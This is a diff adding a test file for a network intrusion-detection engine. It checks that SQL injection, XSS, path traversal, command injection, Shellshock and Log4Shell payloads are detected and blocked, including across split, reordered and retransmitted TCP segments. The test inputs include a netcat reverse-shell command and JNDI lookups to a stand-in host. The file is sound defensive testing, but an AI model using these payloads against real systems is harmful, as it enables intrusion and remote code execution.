@@ -1,0 +1,294 @@
+/**
+ * Web-attack detection end to end: crafted TCP segments through the whole engine (reassembly,
+ * HTTP parsing and normalisation, the web detector, decide). Each case names the signature, the
+ * packet that completed the request, and where in the request the attack was found.
+ */
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import type { AlertEvent } from '../../src/output/events.js';
+import { run, T0, type RunOutput } from '../helpers.js';
+import { Conn } from '../stream/segments.js';
+
+const SQLI = 9100100;
+const XSS = 9100101;
+const TRAVERSAL = 9100102;
+const CMDI = 9100103;
+const LOG4SHELL = 9100104;
+const PATTERN = 9100190;
+
+const OK = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';
+
+/** sid, pcap_cnt, location, field (or '' when none), source address. */
+type Seen = [number, number, string, string, string];
+
+function seen(alerts: readonly AlertEvent[]): Seen[] {
+  return alerts.map((a) => [a.signature.sid, a.pcapCnt, (a.metadata.location ?? [''])[0], (a.metadata.field ?? [''])[0], a.srcIp]);
+}
+
+/** One connection: handshake, the request in one segment (frame 4), the answer, teardown. */
+function oneRequest(request: string, yaml?: string): RunOutput {
+  const c = new Conn({ t0: T0 }).handshake().send(request).serverAck().reply(OK).close();
+  return run(c.frames, yaml);
+}
+
+function get(target: string, headers = ''): string {
+  return `GET ${target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n${headers}\r\n`;
+}
+
+function post(type: string, body: string, headers = ''): string {
+  return `POST /submit HTTP/1.1\r\nHost: shop.example\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body, 'latin1')}\r\n${headers}\r\n${body}`;
+}
+
+function multipart(name: string, value: string): string {
+  const b = '----rampartBoundary7MA4YWxk';
+  const body = `--${b}\r\nContent-Disposition: form-data; name="title"\r\n\r\nhello\r\n--${b}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n--${b}--\r\n`;
+  return post(`multipart/form-data; boundary=${b}`, body);
+}
+
+const CLIENT = '10.0.0.21';
+
+/** Every attack type in every place of a request: [name, request, expected sid, location, field]. */
+const PLACES: readonly [string, string, number, string, string][] = [
+  ['sqli in the query, encoded once', get('/search?q=%27%20OR%201%3D1--%20'), SQLI, 'query', 'q'],
+  ['sqli in the query, encoded twice', get('/search?q=%2527%2520OR%25201%253D1--'), SQLI, 'query', 'q'],
+  ['sqli in the query, mixed case and + for space', get('/item?id=1+UnIoN+SeLeCt+username,password+FrOm+users--'), SQLI, 'query', 'id'],
+  ['sqli in a urlencoded body', post('application/x-www-form-urlencoded', 'user=admin%27--&pass=x'), SQLI, 'body', 'user'],
+  ['sqli in a JSON body', post('application/json', '{"filter":{"name":"x\' OR \'1\'=\'1"}}'), SQLI, 'json', 'filter.name'],
+  ['sqli in a multipart field', multipart('comment', "1'; DROP TABLE users; --"), SQLI, 'multipart', 'comment'],
+  ['sqli in the User-Agent', get('/', '').replace('Firefox/128.0', "Firefox/128.0' AND SLEEP(5)#"), SQLI, 'header', 'user-agent'],
+  ['sqli in a cookie', get('/account', 'Cookie: session=abc123; id=1%27%20or%20%271%27%3D%271\r\n'), SQLI, 'cookie', 'id'],
+  ['xss in the query', get('/search?q=<script>alert(1)</script>'), XSS, 'query', 'q'],
+  ['xss in the query, encoded twice', get('/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E'), XSS, 'query', 'q'],
+  ['xss in a urlencoded body', post('application/x-www-form-urlencoded', 'comment=%3Cimg+src%3Dx+OnErRoR%3Dalert(1)%3E'), XSS, 'body', 'comment'],
+  ['xss in a JSON body', post('application/json', '{"profile":{"bio":"<svg/onload=alert(1)>"}}'), XSS, 'json', 'profile.bio'],
+  ['xss in a multipart field', multipart('signature', '<a href="jav&#x09;ascript:alert(1)">me</a>'), XSS, 'multipart', 'signature'],
+  ['xss in the Referer', get('/', 'Referer: http://shop.example/"><script>alert(1)</script>\r\n'), XSS, 'header', 'referer'],
+  ['xss in a cookie', get('/', 'Cookie: pref=%3Cscript%3Ealert(document.cookie)%3C/script%3E\r\n'), XSS, 'cookie', 'pref'],
+  ['path traversal in the path, encoded', get('/static/..%2f..%2f..%2f..%2fetc/passwd'), TRAVERSAL, 'path', ''],
+  ['path traversal in the query', get('/download?file=../../../../etc/passwd'), TRAVERSAL, 'query', 'file'],
+  ['path traversal in the query, encoded twice', get('/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'), TRAVERSAL, 'query', 'file'],
+  ['path traversal in a urlencoded body, backslashes', post('application/x-www-form-urlencoded', 'page=..%5C..%5Cwindows%5Cwin.ini'), TRAVERSAL, 'body', 'page'],
+  ['path traversal in a JSON body', post('application/json', '{"template":"../../../../etc/shadow"}'), TRAVERSAL, 'json', 'template'],
+  ['path traversal in a multipart file name', multipart('upload"; filename="../../../../var/www/shell.php', '<?php echo 1; ?>'), TRAVERSAL, 'filename', 'upload'],
+  ['path traversal in a cookie', get('/', 'Cookie: lang=../../../../etc/passwd%00\r\n'), TRAVERSAL, 'cookie', 'lang'],
+  ['command injection in the query', get('/ping?host=127.0.0.1%3B%20id'), CMDI, 'query', 'host'],
+  ['command injection in a urlencoded body', post('application/x-www-form-urlencoded', 'ip=8.8.8.8+%26%26+whoami'), CMDI, 'body', 'ip'],
+  ['command injection in a JSON body', post('application/json', '{"target":"x | nc -e /bin/sh 192.0.2.1 4444"}'), CMDI, 'json', 'target'],
+  ['command injection in a multipart field', multipart('host', 'example.com$(uname -a)'), CMDI, 'multipart', 'host'],
+  ['Shellshock in the User-Agent', get('/cgi-bin/status').replace(/User-Agent: [^\r]*/, "User-Agent: () { :; }; /bin/bash -c 'id'"), CMDI, 'header', 'user-agent'],
+  ['command injection in a cookie', get('/', 'Cookie: theme=dark%60id%60\r\n'), CMDI, 'cookie', 'theme'],
+  ['log4shell in a custom header', get('/', 'X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n'), LOG4SHELL, 'header', 'x-api-version'],
+  ['log4shell with nested lookups in the User-Agent', get('/').replace(/User-Agent: [^\r]*/, 'User-Agent: ${${lower:j}${upper:n}${::-d}${env:NONE:-i}:${lower:l}dap://198.51.100.7/a}'), LOG4SHELL, 'header', 'user-agent'],
+  ['log4shell in the query, encoded', get('/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D'), LOG4SHELL, 'query', 'q'],
+  ['log4shell in a JSON body', post('application/json', '{"user":"${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}"}'), LOG4SHELL, 'json', 'user'],
+  ['log4shell in a cookie', get('/', 'Cookie: JSESSIONID=${jndi:dns://198.51.100.7/x}\r\n'), LOG4SHELL, 'cookie', 'JSESSIONID'],
+  ['log4shell in the Accept header', get('/', 'Accept: ${jNdI:ldap://198.51.100.7/a}\r\n'), LOG4SHELL, 'header', 'accept'],
+];
+
+describe('web attacks in every part of a request', () => {
+  for (const [name, request, sid, location, field] of PLACES) {
+    it(name, () => {
+      const out = oneRequest(request);
+      assert.deepEqual(seen(out.alerts), [[sid, 4, location, field, CLIENT]]);
+      assert.equal(out.alerts[0].action, 'blocked');
+      assert.equal(out.alerts[0].destPort, 80);
+    });
+  }
+
+  it("flags the seeds' three patterns by their structure", () => {
+    assert.deepEqual(seen(oneRequest(get('/login?user=%27+OR+1%3D1')).alerts), [[SQLI, 4, 'query', 'user', CLIENT]]);
+    assert.deepEqual(seen(oneRequest(get('/c?m=%3Cscript%3E')).alerts), [[XSS, 4, 'query', 'm', CLIENT]]);
+    assert.deepEqual(seen(oneRequest(get('/c?m=x%27%3B+DROP+TABLE+users%3B+--')).alerts), [[SQLI, 4, 'query', 'm', CLIENT]]);
+  });
+
+  it('names the decoding anomalies and the SQL fingerprint in the metadata', () => {
+    const out = oneRequest(get('/search?q=%2527%2520OR%25201%253D1--'));
+    const m = out.alerts[0].metadata;
+    assert.deepEqual(m.anomalies, ['double_encoded']);
+    assert.deepEqual(m.rule, ['boolean after string break']);
+    assert.deepEqual(m.sqli_fingerprint, ['s&nonc']);
+    assert.deepEqual(m.evidence, ["' OR 1=1--"]);
+    assert.equal(out.alerts[0].detail, 'SQL injection in query "q": boolean after string break');
+    assert.equal(out.alerts[0].signature.attackType, 'sqli');
+  });
+
+  it('raises one alert per attack type of one request, naming each type', () => {
+    const out = oneRequest(get('/x?a=%27+OR+1%3D1--&b=%3Cscript%3E&c=..%2F..%2F..%2Fetc%2Fpasswd&d=%3Bid&e=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D&f=%27+or+2%3D2--'));
+    assert.deepEqual(
+      out.alerts.map((a) => [a.signature.sid, a.signature.attackType, a.metadata.field[0]]),
+      [
+        [SQLI, 'sqli', 'a'],
+        [XSS, 'xss', 'b'],
+        [TRAVERSAL, 'path_traversal', 'c'],
+        [CMDI, 'command_injection', 'd'],
+        [LOG4SHELL, 'log4shell', 'e'],
+      ],
+    );
+  });
+
+  it('carries the HTTP transaction and the printable payload, and blocks the client', () => {
+    const request = get('/search?q=%27%20OR%201%3D1--%20');
+    const out = oneRequest(request);
+    const a = out.alerts[0];
+    assert.deepEqual(a.http, {
+      hostname: 'shop.example',
+      url: '/search?q=%27%20OR%201%3D1--%20',
+      httpUserAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
+      httpContentType: '',
+      httpRefer: '',
+      httpMethod: 'GET',
+      protocol: 'HTTP/1.1',
+      status: 0,
+      length: 0,
+    });
+    assert.equal(a.payloadPrintable, request);
+    assert.equal(out.verdicts[3], `[3] ${CLIENT} -> 10.0.0.10 : BLOCK: SQL injection`);
+    assert.equal(out.verdicts[2], `[2] ${CLIENT} -> 10.0.0.10 : ALLOW`);
+  });
+
+  it('bounds payload_printable to 1 KiB and prints non-printable bytes as dots', () => {
+    const body = `q=%27+OR+1%3D1--&pad=${'\x01'.repeat(2000)}`;
+    const out = oneRequest(post('application/x-www-form-urlencoded', body));
+    const pp = out.alerts[0].payloadPrintable as string;
+    assert.equal(pp.length, 1024);
+    assert.ok(pp.endsWith('.'.repeat(100)));
+  });
+});
+
+describe('web attacks across TCP segments', () => {
+  const REQ = get('/search?q=%27%20UNION%20SELECT%20password%20FROM%20users--');
+
+  it('finds an attack split across two segments, at the second', () => {
+    const c = new Conn({ t0: T0 }).handshake().sendSplit(REQ, [30]).serverAck().reply(OK).close();
+    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 5, 'query', 'q', CLIENT]]);
+  });
+
+  it('finds an attack split across three segments inside its keywords, at the third', () => {
+    const cut1 = REQ.indexOf('UNI') + 3;
+    const cut2 = REQ.indexOf('SEL') + 2;
+    const c = new Conn({ t0: T0 }).handshake().sendSplit(REQ, [cut1, cut2]).serverAck().reply(OK).close();
+    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 6, 'query', 'q', CLIENT]]);
+  });
+
+  it('reorders segments that arrive out of order and alerts when the hole fills', () => {
+    const cut = 40;
+    const c = new Conn({ t0: T0 }).handshake();
+    c.send(REQ.slice(cut), cut);
+    c.send(REQ.slice(0, cut), 0).serverAck().reply(OK).close();
+    const out = run(c.frames);
+    assert.deepEqual(seen(out.alerts), [[SQLI, 5, 'query', 'q', CLIENT]]);
+    assert.equal(out.engine.stream.stats.out_of_order, 1);
+  });
+
+  it('keeps the first copy of a retransmitted segment: a later, malicious copy is never inspected', () => {
+    const benign = get('/search?q=AAAAAAAAAAAAAAAAAAAAAA');
+    const evil = get('/search?q=%27+OR+1%3D1--+AAAAAAA');
+    assert.equal(benign.length, evil.length);
+    const c = new Conn({ t0: T0 }).handshake();
+    c.send(benign.slice(0, 40), 0).send(evil.slice(0, 40), 0).send(benign.slice(40), 40).serverAck().reply(OK).close();
+    const out = run(c.frames);
+    assert.deepEqual(out.alerts, []);
+    assert.equal(out.engine.stream.stats.retransmissions, 1);
+  });
+
+  it('keeps the first copy of a retransmitted segment: a later, benign copy does not hide the attack', () => {
+    const benign = get('/search?q=AAAAAAAAAAAAAAAAAAAAAA');
+    const evil = get('/search?q=%27+OR+1%3D1--+AAAAAAA');
+    const c = new Conn({ t0: T0 }).handshake();
+    c.send(evil.slice(0, 40), 0).send(benign.slice(0, 40), 0).send(evil.slice(40), 40).serverAck().reply(OK).close();
+    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 6, 'query', 'q', CLIENT]]);
+  });
+
+  it('keeps the first held copy of an out-of-order segment and reports the contradiction', () => {
+    const benign = get('/search?q=AAAAAAAAAAAAAAAAAAAAAA');
+    const evil = get('/search?q=%27+OR+1%3D1--+AAAAAAA');
+    const c = new Conn({ t0: T0 }).handshake();
+    c.send(evil.slice(20), 20).send(benign.slice(20), 20).send(evil.slice(0, 20), 0).serverAck().reply(OK).close();
+    const out = run(c.frames);
+    assert.deepEqual(seen(out.alerts), [[SQLI, 6, 'query', 'q', CLIENT]]);
+    const anomalies = out.events.filter((e) => e.type === 'anomaly').map((e) => [e.type === 'anomaly' ? e.event : '', e.type === 'anomaly' ? e.pcapCnt : 0]);
+    assert.deepEqual(anomalies, [['stream.reassembly_overlap_different_data', 5]]);
+    assert.equal(out.engine.stream.stats.overlap_different_data, 1);
+  });
+
+  it('inspects each of pipelined requests sent in one segment', () => {
+    const reqs = get('/a?x=1') + get('/b?q=%3Cscript%3Ealert(1)%3C/script%3E') + get('/c?y=2') + get('/d?id=1+or+1%3D1');
+    const c = new Conn({ t0: T0 }).handshake().send(reqs).serverAck().reply(OK + OK + OK + OK).close();
+    const out = run(c.frames);
+    assert.deepEqual(seen(out.alerts), [
+      [XSS, 4, 'query', 'q', CLIENT],
+      [SQLI, 4, 'query', 'id', CLIENT],
+    ]);
+    assert.deepEqual(out.alerts.map((a) => a.http?.url), ['/b?q=%3Cscript%3Ealert(1)%3C/script%3E', '/d?id=1+or+1%3D1']);
+    assert.equal(out.engine.http.stats.requests, 4);
+  });
+
+  it('alerts on every malicious request of a keep-alive connection (no re-alert suppression)', () => {
+    const c = new Conn({ t0: T0 }).handshake();
+    for (let i = 0; i < 3; i++) c.send(get(`/item?id=${i}+or+1%3D1`)).serverAck().reply(OK);
+    c.close();
+    const out = run(c.frames);
+    assert.deepEqual(
+      out.alerts.map((a) => [a.signature.sid, a.pcapCnt, a.http?.url, a.action]),
+      [
+        [SQLI, 4, '/item?id=0+or+1%3D1', 'blocked'],
+        [SQLI, 7, '/item?id=1+or+1%3D1', 'blocked'],
+        [SQLI, 10, '/item?id=2+or+1%3D1', 'blocked'],
+      ],
+    );
+  });
+
+  it('decodes a chunked body whose attack straddles two chunks and two segments', () => {
+    const head = 'POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n';
+    const c = new Conn({ t0: T0 }).handshake().send(`${head}b\r\nuser=admin%\r\n`).send('5\r\n27--&\r\n6\r\npass=x\r\n0\r\n\r\n').serverAck().reply(OK).close();
+    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 5, 'body', 'user', CLIENT]]);
+  });
+
+  it('inspects HTTP on a non-standard port, recognised by its content', () => {
+    const c = new Conn({ t0: T0, dport: 8081 }).handshake().send(get('/?q=%27+or+%27a%27%3D%27a')).serverAck().reply(OK).close();
+    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 4, 'query', 'q', CLIENT]]);
+  });
+
+  it('picks up a capture that starts mid-connection, at the next request', () => {
+    const c = new Conn({ t0: T0 });
+    c.send('tail of an earlier body\r\n', 0).send(get('/item?id=5+UNION+SELECT+1,2--')).serverAck().reply(OK).close();
+    const out = run(c.frames);
+    assert.deepEqual(seen(out.alerts), [[SQLI, 2, 'query', 'id', CLIENT]]);
+    // Both directions were picked up without their SYN.
+    assert.equal(out.engine.stream.stats.midstream, 2);
+  });
+});
+
+describe('payload pattern list', () => {
+  it("loads the seeds' pattern file and matches its literals on decoded fields", () => {
+    const dir = mkdtempSync(join(tmpdir(), 'rampart-web-'));
+    try {
+      const file = join(dir, 'payload_patterns.json');
+      writeFileSync(file, JSON.stringify([' OR 1=1', '<script>', 'DROP TABLE']));
+      const out = oneRequest(get('/notes?text=please+drop+table+4'), `detectors:\n  web_attacks:\n    patterns_file: ${JSON.stringify(file)}\n`);
+      assert.deepEqual(seen(out.alerts), [[PATTERN, 4, 'query', 'text', CLIENT]]);
+      assert.equal(out.alerts[0].signature.msg, 'RAMPART WEB payload pattern "DROP TABLE"');
+      assert.equal(out.alerts[0].signature.attackType, 'payload_pattern');
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('uses the attack type, message and places an entry gives', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'rampart-web-'));
+    try {
+      const file = join(dir, 'patterns.json');
+      writeFileSync(file, JSON.stringify({ patterns: [{ pattern: 'wp-config.php', attack_type: 'recon', msg: 'WordPress config probe', severity: 3, where: ['path', 'query'] }] }));
+      const yaml = `detectors:\n  web_attacks:\n    patterns_file: ${JSON.stringify(file)}\n`;
+      const out = oneRequest(get('/blog/WP-CONFIG.PHP.bak'), yaml);
+      assert.deepEqual(seen(out.alerts), [[PATTERN, 4, 'path', '', CLIENT]]);
+      assert.deepEqual([out.alerts[0].signature.attackType, out.alerts[0].signature.msg, out.alerts[0].signature.severity, out.alerts[0].action], ['recon', 'WordPress config probe', 3, 'allowed']);
+      assert.deepEqual(oneRequest(get('/', 'Referer: http://x/wp-config.php\r\n'), yaml).alerts, []);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
